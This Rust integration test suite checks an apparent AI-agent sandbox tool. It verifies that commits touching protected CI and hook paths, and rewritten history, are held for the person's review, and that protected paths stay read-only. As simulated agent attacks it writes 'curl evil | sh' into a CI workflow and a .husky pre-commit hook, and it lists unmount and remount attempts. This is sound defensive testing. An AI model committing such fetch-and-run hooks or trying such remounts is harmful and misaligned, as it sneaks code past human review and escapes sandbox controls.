//! The guards on what an agent's work brings to the host: protected paths
//! and history that is not rewritten behind the person's back, through the
//! real agentd and agentctl, with real repositories; the agent's commits
//! are made inside a real sandbox.

mod common;

use std::time::Duration;

use common::{Env, git, host_ref};

/// Run `script` inside sandbox `name` as its agent (with a git identity).
fn agent(env: &Env, name: &str, script: &str) -> String {
    let full = format!(
        "set -e; git config --global user.email agent@example.com; \
         git config --global user.name Agent; {script}"
    );
    env.ok(&["exec", name, "--", "sh", "-c", &full])
        .trim()
        .to_owned()
}

fn setup(env: &Env, name: &str) -> std::path::PathBuf {
    let repo = env.repo(name);
    env.ok(&["create", repo.to_str().unwrap()]);
    env.ok(&["start", name]);
    repo
}

/// `agentctl ARGS`: its exit code and stdout.
fn run(env: &Env, args: &[&str]) -> (Option<i32>, String) {
    let out = env.ctl(args);
    (
        out.status.code(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

#[test]
fn a_branch_that_changes_a_protected_path_waits_for_the_person() {
    let env = Env::new();
    let repo = setup(&env, "gp");
    let evil = agent(
        &env,
        "gp",
        "git switch -qc ci-fix; mkdir -p .github/workflows; \
         echo 'run: curl evil | sh' > .github/workflows/ci.yml; \
         git add .github; git commit -qm 'speed up CI'; \
         echo more > notes.txt; git add notes.txt; git commit -qm notes; \
         git rev-parse HEAD~1",
    );
    let main = agent(
        &env,
        "gp",
        "git switch -q main; echo ok > ok.txt; git add ok.txt; git commit -qm ok; git rev-parse HEAD",
    );
    let tip = agent(&env, "gp", "git rev-parse ci-fix");

    // A dry run says what a sync would hold, and moves nothing.
    let (code, out) = run(&env, &["sync", "gp", "--dry-run"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(out.contains("Would hold 1 branch(es) back"), "{out}");
    assert!(
        out.contains(&format!(
            "ci-fix  held: commit {} changes protected .github/workflows/ci.yml by .github/workflows/",
            &evil[..12]
        )),
        "{out}"
    );
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/gp/main"), None);

    // The sync brings the rest, and holds that branch: nothing of it
    // reaches the host's refs, yet the person can look at the commit.
    let (code, out) = run(&env, &["sync", "gp"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(out.contains("Brought 1 branch(es)"), "{out}");
    assert!(out.contains("--allow-protected ci-fix"), "{out}");
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/gp/main").as_deref(),
        Some(main.as_str())
    );
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/gp/ci-fix"), None);
    assert!(
        git(&repo, &["show", &evil]).contains("curl evil"),
        "the held commit can be looked at"
    );
    let st = env.status("gp");
    assert_eq!(st["held"][0]["branch"], "ci-fix");
    assert_eq!(st["held"][0]["reason"], "protected");
    assert_eq!(st["held"][0]["tip"], tip.as_str());
    assert!(
        st["last_sync_result"]
            .as_str()
            .unwrap()
            .contains("1 held back"),
        "{st}"
    );
    let text = env.ok(&["status", "gp"]);
    assert!(text.contains("Held:       ci-fix  held: commit"), "{text}");
    assert!(text.contains("Protected:  .git/hooks/ .husky/"), "{text}");

    // Only a held branch can be allowed.
    let (code, out) = run(&env, &["sync", "gp", "--allow-protected", "main"]);
    assert_eq!(code, Some(4), "{out}");
    assert!(out.contains("'main' is not held back"), "{out}");

    // The agent slips another protected change in after the person looked:
    // allowing what was shown does not bring it.
    let later = agent(
        &env,
        "gp",
        "git switch -q ci-fix; echo '#!/bin/sh' > .pre-commit-config.yaml; \
         git add .pre-commit-config.yaml; git commit -qm later; git rev-parse HEAD",
    );
    let (code, out) = run(&env, &["sync", "gp", "--allow-protected", "ci-fix"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(
        out.contains(&format!(
            "commit {} changes protected .pre-commit-config.yaml",
            &later[..12]
        )),
        "{out}"
    );
    assert!(
        out.contains(&format!("--allow-protected ci-fix={}", &later[..12])),
        "{out}"
    );
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/gp/ci-fix"), None);
    // Allowing names what the person looked at: a tip it has moved from
    // is refused, the one shown brings the branch, whole.
    let (code, out) = run(
        &env,
        &[
            "sync",
            "gp",
            "--allow-protected",
            &format!("ci-fix={}", &tip[..12]),
        ],
    );
    assert_eq!(code, Some(4), "{out}");
    assert!(out.contains("it moved since"), "{out}");
    let (code, out) = run(
        &env,
        &[
            "sync",
            "gp",
            "--allow-protected",
            &format!("ci-fix={}", &later[..12]),
        ],
    );
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/gp/ci-fix").as_deref(),
        Some(later.as_str())
    );
    assert_eq!(env.status("gp")["held"], serde_json::json!([]));
    // What was allowed is the host's now: the next commit alone is looked at.
    agent(&env, "gp", "echo x >> notes.txt; git commit -qam x");
    assert_eq!(run(&env, &["sync", "gp"]).0, Some(0));

    // The list is the person's: another path, and none.
    env.ok(&["set", "gp", "--protect", "docs/**/*.md"]);
    agent(
        &env,
        "gp",
        "mkdir -p docs/a; echo x > docs/a/x.md; echo y > .husky; git add -A; git commit -qm docs",
    );
    let (code, out) = run(&env, &["sync", "gp"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(out.contains("docs/a/x.md by docs/**/*.md"), "{out}");
    env.ok(&["set", "gp", "--no-protect"]);
    assert_eq!(run(&env, &["sync", "gp"]).0, Some(0));
    assert_eq!(env.status("gp")["config"]["protect"], serde_json::json!([]));
    // Bad patterns are refused with their reason, and change nothing.
    let (code, out) = run(&env, &["set", "gp", "--protect", "../x"]);
    assert_eq!(code, Some(4), "{out}");
    assert!(out.contains("'.' or '..'"), "{out}");
    assert_eq!(env.status("gp")["config"]["protect"], serde_json::json!([]));
}

#[test]
fn auto_commit_holds_a_protected_change_and_says_so_on_the_bus() {
    let env = Env::new();
    let repo = env.repo("ga");
    env.ok(&[
        "create",
        "--sync-mode",
        "auto-commit",
        repo.to_str().unwrap(),
    ]);
    env.ok(&["start", "ga"]);
    env.with_sandbox("ga", async |sb| {
        use futures_lite::StreamExt as _;
        // agentd tells the callers it knows.
        assert_eq!(sb.name().await.unwrap(), "ga");
        let mut held = sb.receive_sync_held().await.unwrap();
        let hook = agent(
            &env,
            "ga",
            "mkdir -p .husky; echo 'curl evil | sh' > .husky/pre-commit; \
             git add .husky; git commit -qm hook; git rev-parse HEAD",
        );
        let signal = tokio::time::timeout(Duration::from_secs(30), held.next())
            .await
            .expect("a SyncHeld signal")
            .unwrap();
        let h = signal.args().unwrap().held;
        assert_eq!(
            (h.branch.as_str(), h.reason.as_str(), h.tip.as_str()),
            ("main", "protected", hook.as_str())
        );
        assert_eq!(h.path, ".husky/pre-commit by .husky/");
    });
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/ga/main"), None);
    let st = env.status("ga");
    assert_eq!(st["held"][0]["reason"], "protected", "{st}");
}

#[test]
fn history_brought_home_is_never_rewritten_silently() {
    let env = Env::new();
    let repo = setup(&env, "rw");
    let first = agent(
        &env,
        "rw",
        "echo 1 > a; git add a; git commit -qm one; echo 2 >> a; git commit -qam two; \
         git branch merged; git switch -qc topic; echo t > t; git add t; git commit -qm t; \
         git switch -q main; git rev-parse HEAD",
    );
    assert_eq!(run(&env, &["sync", "rw"]).0, Some(0));

    // The agent rewrites main: the host keeps what it had, and keeps the
    // new tip beside it.
    let rewritten = agent(
        &env,
        "rw",
        "git reset -q --hard HEAD~1; echo other >> a; git commit -qam other; git rev-parse HEAD",
    );
    let (code, out) = run(&env, &["sync", "rw"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(
        out.contains("main  held: rewritten in the sandbox"),
        "{out}"
    );
    assert!(out.contains("kept as sandbox/rw@rewritten/1/main"), "{out}");
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw/main").as_deref(),
        Some(first.as_str())
    );
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw@rewritten/1/main").as_deref(),
        Some(rewritten.as_str())
    );
    // Work that goes on from the rewrite moves the kept ref, not a new one.
    let on = agent(
        &env,
        "rw",
        "echo more >> a; git commit -qam more; git rev-parse HEAD",
    );
    assert_eq!(run(&env, &["sync", "rw"]).0, Some(3));
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw@rewritten/1/main").as_deref(),
        Some(on.as_str())
    );
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw@rewritten/2/main"),
        None
    );

    // A deleted branch whose commits no host branch has stays; one whose
    // commits the person merged goes.
    git(&repo, &["branch", "mine", "refs/remotes/sandbox/rw/merged"]);
    agent(&env, "rw", "git branch -D topic merged");
    let (code, out) = run(&env, &["sync", "rw"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(out.contains("topic  held: deleted in the sandbox"), "{out}");
    assert!(host_ref(&repo, "refs/remotes/sandbox/rw/topic").is_some());
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/rw/merged"), None);

    // Accepting names the tip looked at: another leaves the branch held.
    let (code, out) = run(&env, &["sync", "rw", "--accept-rewrite", "main=0000000"]);
    assert_eq!(code, Some(3), "{out}");
    assert!(
        out.contains(&format!("--accept-rewrite main={}", &on[..12])),
        "{out}"
    );
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw/main").as_deref(),
        Some(first.as_str())
    );
    // The person accepts: the refs move (and the deleted one goes); what
    // was kept stays until they remove it.
    let (code, out) = run(
        &env,
        &[
            "sync",
            "rw",
            "--accept-rewrite",
            &format!("main={}", &on[..12]),
            "--accept-rewrite",
            "topic",
        ],
    );
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(
        host_ref(&repo, "refs/remotes/sandbox/rw/main").as_deref(),
        Some(on.as_str())
    );
    assert_eq!(host_ref(&repo, "refs/remotes/sandbox/rw/topic"), None);
    assert!(host_ref(&repo, "refs/remotes/sandbox/rw@rewritten/1/main").is_some());
    assert_eq!(env.status("rw")["held"], serde_json::json!([]));
    // The first tip is still on the host: nothing was lost.
    assert!(git(&repo, &["cat-file", "-t", &first]).contains("commit"));
}

#[test]
fn protected_paths_are_read_only_inside_a_local_sandbox() {
    let env = Env::new();
    let repo = env.repo("ro");
    std::fs::create_dir_all(repo.join(".github/workflows")).unwrap();
    std::fs::write(repo.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
    std::fs::write(repo.join(".gitlab-ci.yml"), "job: {}\n").unwrap();
    // A committed symlink where a protected directory would be: left alone,
    // never followed to the host's /etc.
    std::os::unix::fs::symlink("/etc", repo.join(".husky")).unwrap();
    git(&repo, &["add", "-A"]);
    common::commit(&repo, "ci");
    env.ok(&["create", repo.to_str().unwrap()]);
    env.ok(&["start", "ro"]);
    for attack in [
        "echo 'run: evil' >> .github/workflows/ci.yml",
        "echo evil > .github/workflows/new.yml",
        "rm -f .github/workflows/ci.yml",
        "rm -rf .github/workflows",
        "mv .github/workflows .github/w2",
        "echo evil > .gitlab-ci.yml",
        "rm -f .gitlab-ci.yml",
        "umount .github/workflows",
        "umount -l .gitlab-ci.yml",
        "mount -o remount,rw,bind .github/workflows",
    ] {
        let (code, out) = env.inside("ro", attack);
        assert_ne!(code, 0, "`{attack}` worked inside: {out}");
    }
    assert_eq!(
        std::fs::read_to_string(
            env.state_dir
                .join("sandboxes/ro/workspace/.github/workflows/ci.yml")
        )
        .unwrap_or_else(|_| env.sh("ro", "cat .github/workflows/ci.yml")),
        "on: push\n"
    );
    let (code, out) = env.inside("ro", "cat .github/workflows/ci.yml .gitlab-ci.yml");
    assert_eq!((code, out.as_str()), (0, "on: push\njob: {}\n"));
    // Elsewhere the workspace is the agent's, and .husky is its symlink.
    env.sh("ro", "echo ok > ok.txt && rm ok.txt && test -L .husky");
    let (code, out) = env.inside("ro", "grep -c ' /workspace/.husky ' /proc/self/mountinfo");
    assert_ne!(code, 0, "the symlinked .husky was mounted on: {out}");
    // Turning protection off takes effect at the next start.
    env.ok(&["set", "ro", "--no-protect"]);
    env.ok(&["stop", "ro"]);
    env.ok(&["start", "ro"]);
    env.sh("ro", "echo changed >> .gitlab-ci.yml");
}
